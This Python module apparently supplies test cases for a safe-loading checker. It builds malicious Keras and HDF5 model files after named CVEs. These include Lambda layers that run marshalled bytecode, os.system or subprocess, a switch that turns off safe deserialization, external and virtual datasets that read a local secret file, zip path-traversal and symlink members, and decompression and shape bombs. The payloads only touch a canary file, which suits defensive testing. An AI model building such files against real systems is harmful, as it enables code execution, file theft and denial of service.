"""`.keras` and `.h5` files that mean harm: what is known of Keras' advisories, and the like."""

from __future__ import annotations

import base64
import io
import json
import marshal
import stat
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from . import fuzz_seeds as seeds

#: In texts of a case: the directory that it is in. A `canary` there shows that code of the file ran.
HERE = "{here}"


def _code(here: str) -> str:
    """Bytecode that leaves a canary, as Keras writes that of a Lambda layer."""
    source = f"lambda x: (open({here + '/canary'!r}, 'w').close(), x)[1]"
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()


def _layer(class_name: str, config: dict[str, Any], module: str = "keras.layers", **more: Any) -> dict[str, Any]:
    history = {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 10, 6], "dtype": "float32", "keras_history": ["x", 0, 0]},
    }
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": "evil", **config},
        "registered_name": None,
        "name": "evil",
        "inbound_nodes": [{"args": [history], "kwargs": {}}],
        **more,
    }


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def _called(module: str, name: str, first: Any, **arguments: Any) -> dict[str, Any]:
    """A Lambda layer that calls a function of a module when the model is built."""
    config = {"function": _function(module, name), "arguments": arguments}
    return _layer("Lambda", config, inbound_nodes=[{"args": [], "kwargs": {"inputs": first}}])


def _lambda(here: str) -> dict[str, Any]:
    code = {"class_name": "__lambda__", "config": {"code": _code(here), "defaults": None, "closure": None}}
    return _layer("Lambda", {"function": code, "arguments": {}})


def _shell(here: str) -> list[str]:
    return ["touch", f"{here}/canary"]


#: Name → a layer that is put behind the input.
LAYERS: dict[str, Callable[[str], Any]] = {
    "CVE-2024-3660 bytecode": _lambda,
    "CVE-2025-1550 subprocess.run": lambda here: _called("subprocess", "run", _shell(here)),
    "CVE-2025-1550 os.system": lambda here: _called("os", "system", f"touch {here}/canary"),
    "CVE-2025-1550 builtins.exec": lambda here: _called("builtins", "exec", f"open({here + '/canary'!r}, 'w')"),
    "CVE-2025-1550 a class": lambda here: _layer("Popen", {"args": _shell(here)}, "subprocess"),
    "CVE-2025-1550 keras_hub": lambda here: _layer("X", {"args": _shell(here)}, "keras_hub.evil"),
    "CVE-2025-1550 inside keras": lambda here: _called("keras.src.utils.python_utils", "func_load", _code(here)),
    "CVE-2025-8747 get_file": lambda here: _called(
        "keras.utils", "get_file", "canary", origin=f"file://{here}/secret", cache_dir=here, cache_subdir=""
    ),
    "CVE-2025-8747 get_file, network": lambda here: _called(
        "keras.utils", "get_file", "canary", origin="http://127.0.0.1:9/x", cache_dir=here, cache_subdir=""
    ),
    "CVE-2025-12060 get_file of a tar": lambda here: _called(
        "keras.utils", "get_file", "canary", origin=f"file://{here}/evil.tar", extract=True, cache_dir=here
    ),
    "CVE-2025-9906 unsafe on": lambda here: _called("keras.config", "enable_unsafe_deserialization", []),
    "CVE-2025-9906 unsafe on, by class": lambda here: _layer("enable_unsafe_deserialization", {}, "keras.config"),
    "CVE-2025-9906 global attribute": lambda here: _called(
        "keras.src.backend.common.global_state", "set_global_attribute", "safe_mode_saving", value=False
    ),
    "CVE-2025-9906 load_model": lambda here: _called(
        "keras.models", "load_model", f"{here}/inner.keras", safe_mode=False
    ),
    "CVE-2025-12058 StringLookup": lambda here: _layer("StringLookup", {"vocabulary": f"{here}/secret"}),
    "CVE-2025-12058 StringLookup, network": lambda here: _layer(
        "StringLookup", {"vocabulary": "http://127.0.0.1:9/words"}
    ),
    "CVE-2025-12058 IntegerLookup": lambda here: _layer("IntegerLookup", {"vocabulary": f"{here}/secret"}),
    "CVE-2025-12058 TextVectorization": lambda here: _layer(
        "TextVectorization",
        {
            "vocabulary": f"{here}/secret",
            "standardize": "lower",
            "split": "whitespace",
            "ngrams": None,
            "output_mode": "int",
        },
    ),
    "CVE-2026-1462 TFSMLayer": lambda here: _layer("TFSMLayer", {"filepath": here, "call_endpoint": "serve"}),
    "TorchModuleWrapper": lambda here: _layer("TorchModuleWrapper", {"module": _code(here)}),
    "another's activation": lambda here: _layer("Dense", {"units": 3, "activation": _function("os", "system")}),
    "another's initializer": lambda here: _layer(
        "Dense", {"units": 3, "kernel_initializer": {"module": "subprocess", "class_name": "Popen", "config": {}}}
    ),
    "a variant by path": lambda here: _layer(
        "GRUPlus", {"units": 3, "variant": "os:system"}, "keras_gru_plus", registered_name="keras_gru_plus>GRUPlus"
    ),
    "a million weights": lambda here: _layer("Dense", {"units": 10**8}),
    "a state without an end": lambda here: _layer("GRU", {"units": 60_000}),
    "an endless table": lambda here: _layer("Embedding", {"input_dim": 10**9, "output_dim": 10**3}),
    "inside of a wrapper": lambda here: _layer("TimeDistributed", {"layer": _lambda(here)}),
}


def models(here: Path) -> Iterator[tuple[str, str, bytes]]:
    """(name, ending, content) of each file."""
    place = str(here)
    for name, make in LAYERS.items():
        yield name, "keras", keras_with(make(place))
        yield f"{name}, after unsafe on", "keras", keras_with(LAYERS["CVE-2025-9906 unsafe on"](place), make(place))
    yield "CVE-2025-9905 a Lambda in HDF5", "h5", _h5_with(here, _lambda(place))
    keras2 = _layer("Lambda", {"function": [_code(place), None, None], "function_type": "lambda"}, "")
    yield "CVE-2025-9905 a Lambda of Keras 2", "h5", _h5_with(here, keras2, "2.15.0")
    yield (
        "a module of Keras 2",
        "h5",
        _h5_with(
            here, _layer("Lambda", {"function": "system", "function_type": "function", "module": "os"}, ""), "2.15.0"
        ),
    )
    for name, change in {
        "CVE-2026-1669 external data": _external,
        "CVE-2026-1669 a link": _linked,
        "a soft link": _soft,
        "virtual data": _virtual,
        "CVE-2026-0897 a shape bomb": _promising,
        "a circle": _circle,
    }.items():
        yield name, "keras", _keras_weights(here, change)
        yield f"{name}, in .h5", "h5", _h5_changed(here, change)
    yield from archives()


def keras_with(*layers: dict[str, Any]) -> bytes:
    """The small model, with layers put into its graph."""
    content = seeds.keras()["functional.keras"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        config = json.loads(archive.read("config.json"))
    named = [
        {**layer, "name": f"evil{i}", "config": {**layer["config"], "name": f"evil{i}"}}
        for i, layer in enumerate(layers)
    ]
    config["config"]["layers"][1:1] = named
    return rewritten(content, {"config.json": json.dumps(config).encode()})


def rewritten(content: bytes, changes: dict[str, bytes]) -> bytes:
    """An archive with other contents."""
    found = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as archive, zipfile.ZipFile(found, "w") as copy:
        for name in archive.namelist():
            copy.writestr(name, changes.get(name, archive.read(name)))
    return found.getvalue()


def _h5_with(here: Path, layer: dict[str, Any], version: str | None = None) -> bytes:
    def change(file: Any, _: Path) -> None:
        config = json.loads(file.attrs["model_config"])
        config["config"]["layers"].insert(1, layer)
        file.attrs["model_config"] = json.dumps(config)
        if version is not None:
            file.attrs["keras_version"] = version

    return _h5_changed(here, change)


def _h5_changed(here: Path, change: Callable[[Any, Path], None]) -> bytes:
    return _edited(here, seeds.keras()["functional.h5"], change)


def _keras_weights(here: Path, change: Callable[[Any, Path], None]) -> bytes:
    content = seeds.keras()["functional.keras"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        weights = archive.read("model.weights.h5")
    return rewritten(content, {"model.weights.h5": _edited(here, weights, change)})


def _edited(here: Path, content: bytes, change: Callable[[Any, Path], None]) -> bytes:
    import h5py

    path = here / "edited"
    path.write_bytes(content)
    with h5py.File(path, "r+") as file:
        change(file, here)
    found = path.read_bytes()
    path.unlink()
    return found


def _largest(file: Any) -> Any:
    import h5py

    found: list[Any] = []
    file.visititems(lambda _, entry: found.append(entry) if isinstance(entry, h5py.Dataset) else None)
    return max(found, key=lambda entry: entry.size)


def _replaced(file: Any, make: Callable[[Any, str, tuple[int, ...]], None]) -> None:
    old = _largest(file)
    parent, name, shape = old.parent, old.name.rpartition("/")[2], old.shape
    del parent[name]
    make(parent, name, shape)


def _external(file: Any, here: Path) -> None:
    _replaced(
        file,
        lambda parent, name, shape: parent.create_dataset(
            name, shape, "f4", external=[(str(here / "secret"), 0, 4 * shape[0] * shape[1])]
        ),
    )


def _linked(file: Any, here: Path) -> None:
    import h5py

    _replaced(
        file, lambda parent, name, _: parent.__setitem__(name, h5py.ExternalLink(str(here / "secret.h5"), "/x"))
    )


def _soft(file: Any, here: Path) -> None:
    import h5py

    _replaced(file, lambda parent, name, _: parent.__setitem__(name, h5py.SoftLink("/nowhere")))


def _virtual(file: Any, here: Path) -> None:
    import h5py

    def make(parent: Any, name: str, shape: tuple[int, ...]) -> None:
        layout = h5py.VirtualLayout(shape, "f4")
        layout[:] = h5py.VirtualSource(str(here / "secret.h5"), "x", shape)
        parent.create_virtual_dataset(name, layout)

    _replaced(file, make)


def _promising(file: Any, here: Path) -> None:
    _replaced(
        file,
        lambda parent, name, _: parent.create_dataset(name, (2**20, 2**14), "f4", chunks=(1024, 1024), compression=9),
    )


def _circle(file: Any, here: Path) -> None:
    group = _largest(file).parent
    group["again"] = file["/"]
    _soft(file, here)


def archives() -> Iterator[tuple[str, str, bytes]]:
    """Archives that would write elsewhere, or inflate to more than fits."""
    content = seeds.keras()["functional.keras"]
    for path in ("../canary", "/tmp/canary", "assets/../../canary", "..\\canary", "C:/canary", ""):
        yield f"member {path!r}", "keras", added(content, zipfile.ZipInfo(path), b"x")
    link = zipfile.ZipInfo("assets")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    yield "a symbolic link", "keras", added(content, link, b"/tmp")
    for how in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        other = zipfile.ZipInfo("assets/x")
        other.compress_type = how
        yield f"compression {how}", "keras", added(content, other, b"x")
    yield "a bomb", "keras", bomb("config.json", b"{")
    yield "a bomb of weights", "keras", bomb("model.weights.h5", b"\x89HDF\r\n\x1a\n")
    yield "a bomb beside", "keras", bomb("assets/x", b"")
    yield "deep", "keras", rewritten(content, {"config.json": b'{"config": ' * 50_000 + b"1" + b"}" * 50_000})
    yield "deeper than Keras goes", "keras", rewritten(content, {"config.json": b"[" * 900 + b"]" * 900})
    yield "digits", "keras", rewritten(content, {"config.json": b"1" * 10_000})
    yield "no config", "keras", zip_of({"metadata.json": b"{}", "model.weights.h5": b""})


def added(content: bytes, member: zipfile.ZipInfo, inside: bytes) -> bytes:
    """An archive with a member more, whatever its name."""
    found = io.BytesIO(content)
    with zipfile.ZipFile(found, "a") as archive:
        archive.writestr(member, inside, member.compress_type)
        if not member.filename:
            archive.filelist[-1].filename = ""
    return found.getvalue()


def zip_of(members: dict[str, bytes]) -> bytes:
    """An archive of contents by name."""
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return found.getvalue()


def bomb(name: str, head: bytes, size: int = 3 << 30) -> bytes:
    """An archive of a model with a member that inflates to `size` bytes: a block of zeros, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    data = start + block * (size >> 20) + packer.flush()
    whole = seeds.keras()["functional.keras"] if not name.endswith(".npy") else zip_of({})
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        others = {each: archive.read(each) for each in archive.namelist() if each != name}
    found = io.BytesIO(zip_of(others))
    with zipfile.ZipFile(found, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, data)
        member = archive.getinfo(name)
        # As if it had been deflated: what is stored stays, and what it means changes.
        place = member.header_offset
        member.compress_type, member.file_size = zipfile.ZIP_DEFLATED, len(head) + size
    content = bytearray(found.getvalue())
    content[place + 8 : place + 10] = (8).to_bytes(2, "little")
    content[place + 22 : place + 26] = (len(head) + size).to_bytes(4, "little")
    return bytes(content)
